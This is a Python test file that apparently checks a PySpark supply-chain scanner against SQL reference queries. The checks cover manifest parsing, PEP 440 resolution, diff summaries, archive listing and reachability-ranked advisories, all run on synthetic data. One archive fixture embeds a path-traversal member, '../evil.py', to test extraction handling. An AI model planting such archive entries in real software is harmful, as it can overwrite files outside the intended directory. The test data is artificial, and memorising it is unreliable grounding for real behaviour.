@query("q69c_lockfile_version_1", "SELECT s_name AS project, unnest(['a' || s_suppkey, '@s/b', 'c', 'd']) AS name, unnest(['1.0', '2.' || (s_suppkey % 5), '3.0', '4.0']) AS version, unnest(['locked', 'dev', 'locked', 'locked']) AS kind FROM supplier")
def q69c(spark, sf_dir):
    from ..sources import manifests

    return manifests.package_lock(table(spark, sf_dir, "supplier").select(F.col("s_name").alias("project"), F.expr(_LOCK1).alias("text")))


@query(
    "q90_project_manifests",
    "SELECT s_name AS project, unnest(['left-pad', 'jest', 'six', 'attrs', 'p' || s_suppkey]) AS name, unnest(['^' || (s_suppkey % 4), '^29', '==1.0', '>=2', '1.2.3']) AS spec, unnest(['runtime', 'dev', 'locked', 'runtime', 'locked']) AS kind FROM supplier",
)
def q90(spark, sf_dir):
    files = [
        ("app/package.json", "concat('{\"dependencies\":{\"left-pad\":\"^', s_suppkey % 4, '\"},\"devDependencies\":{\"jest\":\"^29\"},\"peerDependencies\":{\"react\":\"*\"}}')"),
        ("requirements-dev.txt", "'six==1.0\\n'"),
        ("pyproject.toml", "'[project]\\ndependencies = [\"attrs>=2\", \"six>=0.9\"]\\n'"),
        ("package-lock.json", "concat('{\"packages\":{\"node_modules/p', s_suppkey, '\":{\"version\":\"1.2.3\"}}}')"),
    ]
    rows = table(spark, sf_dir, "supplier").select(F.col("s_name").alias("project"), F.explode(F.array(*[F.struct(F.lit(p).alias("path"), F.expr(t).alias("text")) for p, t in files])).alias("f")).select("project", "f.*")
    return api.scan_manifests(rows).select("project", "name", "spec", "kind")


@query(
    "q88_pep440_resolution",
    "SELECT 'n' || p_partkey AS name, ['>=1.0,<2', '==1.*', '~=1.4', '!=2.0', '>=3.0rc1', '==2'][p_partkey % 6 + 1] AS spec, ['1.10', '1.10', '1.10', '1.10', '3.0rc1', '2.0.0'][p_partkey % 6 + 1] AS version FROM part",
)
def q88(spark, sf_dir):
    from ..functions import pep440

    k = part(spark, sf_dir).select(F.expr("concat('n', p_partkey)").alias("name"), (F.col("p_partkey") % 6).cast("int").alias("r"))
    specs = F.array(*map(F.lit, [">=1.0,<2", "==1.*", "~=1.4", "!=2.0", ">=3.0rc1", "==2"]))
    versions = k.select("name", F.explode(F.array(*map(F.lit, ["1.2", "1.10", "2.0.0", "3.0rc1", "1.5.dev1", "junk"]))).alias("version"))
    return pep440.resolve(k.select("name", specs[F.col("r")].alias("spec")), versions)


@query("q88b_pep440_equality", "SELECT p_size, p_size % 2 = 0 AS agrees, count(*) AS n FROM part GROUP BY ALL")
def q88b(spark, sf_dir):
    from ..functions import pep440

    a, b = F.expr("concat('v1.', p_size, '.0-ALPHA.1')"), F.expr("concat('1.', p_size, CASE WHEN p_size % 2 = 0 THEN 'a1' ELSE 'b1' END)")
    return part(spark, sf_dir).groupBy("p_size", pep440.same(a, b).alias("agrees")).agg(F.count(F.lit(1)).alias("n"))


@query("q89_diff_summary", "WITH o AS (SELECT p_partkey AS k FROM part WHERE p_partkey % 7 <> 3), n AS (SELECT p_partkey AS k FROM part WHERE p_partkey % 5 <> 2), d AS (SELECT k, CASE WHEN o.k IS NULL THEN 'added' WHEN n.k IS NULL THEN 'removed' WHEN k % 4 = 1 THEN 'modified' END AS status FROM o FULL JOIN n USING (k)) "
       "SELECT count(*) FILTER (WHERE status = 'added') AS added, count(*) FILTER (WHERE status = 'modified') AS modified, count(*) FILTER (WHERE status = 'removed') AS removed, count(*) FILTER (WHERE status IS NOT NULL AND k % 10 = 0) AS sensitive, 'files that run at installation changed' AS note FROM d")
def q89(spark, sf_dir):
    from ..operators import diffs

    path = F.expr("concat('p', p_partkey, CASE WHEN p_partkey % 10 = 0 THEN '/setup.py' ELSE '/a.py' END)")
    side = lambda tag, keep: part(spark, sf_dir).where(keep).select(path.alias("path"), F.expr(f"CASE WHEN p_partkey % 4 = 1 THEN '{tag}' ELSE 'x' END").cast("binary").alias("content"))
    old, new = side("old", "p_partkey % 7 <> 3"), side("new", "p_partkey % 5 <> 2")
    return diffs.summary(api.compare(spark, old, new))


@query("q12b_package_ages", "SELECT o_orderkey, round(date_diff('second', o_orderdate::TIMESTAMP, TIMESTAMP '1998-08-02 12:00:00') / 86400.0, 6)::DOUBLE AS age FROM orders")
def q12b(spark, sf_dir):
    age = features.age_days(F.col("o_orderdate").cast("timestamp"), F.lit("1998-08-02 12:00:00").cast("timestamp"))
    return table(spark, sf_dir, "orders").select("o_orderkey", F.round(age, 6).alias("age"))


@query(
    "q91_archive_members",
    "SELECT archive, path, sum(n_chars) AS size, count(*) AS n FROM (SELECT 'a' || doc_id AS archive, unnest(['f' || (doc_id % 3) || '.py', 'sub/b.txt']) AS path, 3 AS n_chars FROM documents) GROUP BY ALL",
)
def q91(spark, sf_dir):
    @F.pandas_udf("binary")
    def packed(keys: pd.Series) -> pd.Series:
        import io
        import tarfile
        import zipfile

        def one(k: int) -> bytes:
            out = io.BytesIO()
            members = {f"pkg-{k}/f{k % 3}.py": b"x=1", f"pkg-{k}/sub/b.txt": b"abc", "../evil.py": b"no"}
            if k % 2:
                with zipfile.ZipFile(out, "w") as z:
                    for n, d in members.items():
                        z.writestr(n, d)
            else:
                with tarfile.open(fileobj=out, mode="w:gz") as t:
                    for n, d in members.items():
                        info = tarfile.TarInfo(n)
                        info.size = len(d)
                        t.addfile(info, io.BytesIO(d))
            return out.getvalue()

        return keys.map(one)

    docs = table(spark, sf_dir, "documents").select(F.expr("concat('a', doc_id)").alias("archive"), packed("doc_id").alias("content"))
    return archives.members(docs).groupBy("archive", "path").agg(F.sum("size").alias("size"), F.count(F.lit(1)).alias("n"))


@query("q92_evidence", "SELECT doc_id, CASE WHEN length(t) <= 220 THEN t ELSE left(t, 219) || '…' END AS evidence FROM (SELECT doc_id, trim(regexp_replace(coalesce(text, ''), '[ \\t\\n\\x0B\\f\\r]+', ' ', 'g')) AS t FROM documents)")
def q92(spark, sf_dir):
    from ..functions import text as T

    return table(spark, sf_dir, "documents").select("doc_id", T.evidence(F.coalesce("text", F.lit(""))).alias("evidence"))


@query(
    "q90b_preferred_manifests",
    "SELECT s_name AS project, e AS ecosystem, CASE e WHEN 'npm' THEN CASE WHEN s_suppkey % 2 = 0 THEN 'package-lock.json' ELSE 'package.json' END ELSE CASE WHEN s_suppkey % 3 = 0 THEN 'requirements.txt' ELSE 'pyproject.toml' END END AS path FROM supplier, (VALUES ('npm'), ('pypi')) AS v(e)",
)
def q90b(spark, sf_dir):
    from ..sources import manifests

    paths = F.expr("array_compact(array('package.json', 'pyproject.toml', 'sub/package-lock.json', 'readme.md', CASE WHEN s_suppkey % 2 = 0 THEN 'package-lock.json' END, CASE WHEN s_suppkey % 3 = 0 THEN 'requirements.txt' END))")
    files = table(spark, sf_dir, "supplier").select(F.col("s_name").alias("project"), F.explode(paths).alias("path"), F.lit("{}").alias("text"))
    return manifests.preferred(files).select("project", "ecosystem", "path")


@query("q58c_importing_modules", "SELECT 'My-Lib' || (p_size % 5) AS package, 'm' || p_partkey || '.py' AS path FROM part WHERE p_partkey % 3 = 0 UNION ALL SELECT 'PyYAML', 'm' || p_partkey || '.py' FROM part WHERE p_partkey % 3 = 1")
def q58c(spark, sf_dir):
    source = "concat(CASE p_partkey % 3 WHEN 0 THEN concat('import my_lib', p_size % 5, '.core as c') WHEN 1 THEN 'from YAML.x import y' ELSE 'from . import yaml' END, '\\nimport os\\n')"
    files = part(spark, sf_dir).select(F.expr("concat('m', p_partkey, '.py')").alias("path"), F.expr(source).alias("source"))
    packages = part(spark, sf_dir).select(F.expr("concat('My-Lib', p_size % 5)").alias("package"), F.array().cast("array<string>").alias("aliases")).unionByName(spark.createDataFrame([("PyYAML", ["yaml"])], "package string, aliases array<string>")).distinct()
    return python_ast.importing_modules(python_ast.facts(files), packages)


#: A project for each supplier, with a manifest and a source, and a small registry with its advisories.
_REQUIREMENTS = "concat('LibA>=1.0\\nlib-b\\n', " + built("s_suppkey % 3 = 0", "ghost==9\\n") + ", " + built("s_suppkey % 5 = 1", "solo\\n") + ")"
_APPLICATION = "concat('import liba\\n', " + built("s_suppkey % 4 = 2", "import bee\\n") + ", 'def main():\\n    liba.load(1)\\n', " + built("s_suppkey % 2 = 0", "main()\\n") + ")"
_ADVISORY = '{"id":"%s","aliases":["%s"],"summary":"s","severity":[{"score":"%s"}],"affected":[{"package":{"name":"%s"},"ranges":[{"events":[{"introduced":"0"},{"fixed":"%s"}]}]%s}]}'


def supplier_scan(spark, sf_dir) -> projects.Scan:
    suppliers = spread(table(spark, sf_dir, "supplier"))
    files = suppliers.select(F.col("s_name").alias("project"), F.expr(f"inline(array(struct('requirements.txt' AS path, {_REQUIREMENTS} AS text), struct('src/app.py' AS path, {_APPLICATION} AS text)))"))
    rows = lambda schema, *r: spark.createDataFrame(list(r), schema)
    releases = rows("ecosystem string, name string, version string", *[("pypi", n, v) for n, v in (("liba", "1.0"), ("liba", "1.1"), ("lib-b", "2.0"), ("libc", "2.0"), ("libc", "3.0rc1"), ("solo", "0.1"))])
    known = projects.Registry(releases, releases.select("ecosystem", "name", F.lit("latest").alias("tag"), "version").limit(0), rows("ecosystem string, name string, version string, dependency string, range string, ord int", ("pypi", "liba", "1.1", "libc", ">=2", 0), ("pypi", "libc", "2.0", "liba", "==1.0", 0)))
    ids = rows("ecosystem string, name string, version string, id string", *[("pypi", n, v, i) for n, v, i in (("liba", "1.1", "A1"), ("liba", "1.1", "A2"), ("lib-b", "2.0", "B1"), ("libc", "2.0", "C1"), ("liba", "1.0", "OLD"))])
    called = ',"ecosystem_specific":{"imports":["liba.load"]}'
    documents = rows("id string, text string", *[(i, _ADVISORY % x) for i, x in (("A1", ("A1", "CVE-1", "9.8", "liba", "1.2", called)), ("A2", ("A2", "CVE-1", "5.0", "liba", "1.3", "")), ("B1", ("B1", "CVE-2", "7.5", "lib-b", "2.1", ',"ecosystem_specific":{"imports":["bee.run"]}')), ("C1", ("C1", "CVE-3", "4.0", "libc", "2.2", "")))])
    names = rows("distribution string, modules array<string>", ("lib-b", ["bee"]))
    return projects.scan(files, known, ids, documents, names)


@query(
    "q93_project_findings",
    """SELECT s_name AS project, package, version, id, verdict, reachable, fixed, records, round(cvss * CASE WHEN reachable THEN 1.0 ELSE 0.1 END, 6)::DOUBLE AS priority, depth FROM (
        SELECT s_name, 'liba' AS package, '1.1' AS version, 'A1' AS id, 'reachable' AS verdict, true AS reachable, '1.2' AS fixed, 2::BIGINT AS records, 9.8 AS cvss, 0 AS depth FROM supplier
        UNION ALL SELECT s_name, 'lib-b', '2.0', 'B1', CASE WHEN s_suppkey % 4 = 2 THEN 'symbol_not_called' ELSE 'not_imported' END, false, '2.1', 1, 7.5, 0 FROM supplier
        UNION ALL SELECT s_name, 'libc', '2.0', 'C1', 'not_imported', false, '2.2', 1, 4.0, 1 FROM supplier)""",
)
def q93(spark, sf_dir):
    f = supplier_scan(spark, sf_dir).findings
    return f.select("project", "package", "version", "id", "verdict", "reachable", "fixed", "records", F.round("priority", 6).alias("priority"), "depth")


@query(
    "q93b_project_packages",
    """SELECT s_name AS project, name, version, depth, is_direct, required_by FROM supplier, (VALUES ('liba', '1.1', 0, true, NULL, 0), ('lib-b', '2.0', 0, true, NULL, 0), ('libc', '2.0', 1, false, 'liba', 0), ('solo', '0.1', 0, true, NULL, 1)) v(name, version, depth, is_direct, by_, only_)
    , LATERAL (SELECT CASE WHEN name = 'liba' THEN s_name || ',libc' ELSE coalesce(by_, s_name) END AS required_by) WHERE only_ = 0 OR s_suppkey % 5 = 1""",
)
def q93b(spark, sf_dir):
    return supplier_scan(spark, sf_dir).packages.select("project", F.lower("name").alias("name"), "version", "depth", "is_direct", F.array_join("required_by", ",").alias("required_by"))


@query("q93c_project_warnings", "SELECT s_name AS project, 'Unresolved: ghost==9' AS warning FROM supplier WHERE s_suppkey % 3 = 0")
def q93c(spark, sf_dir):
    return supplier_scan(spark, sf_dir).warnings
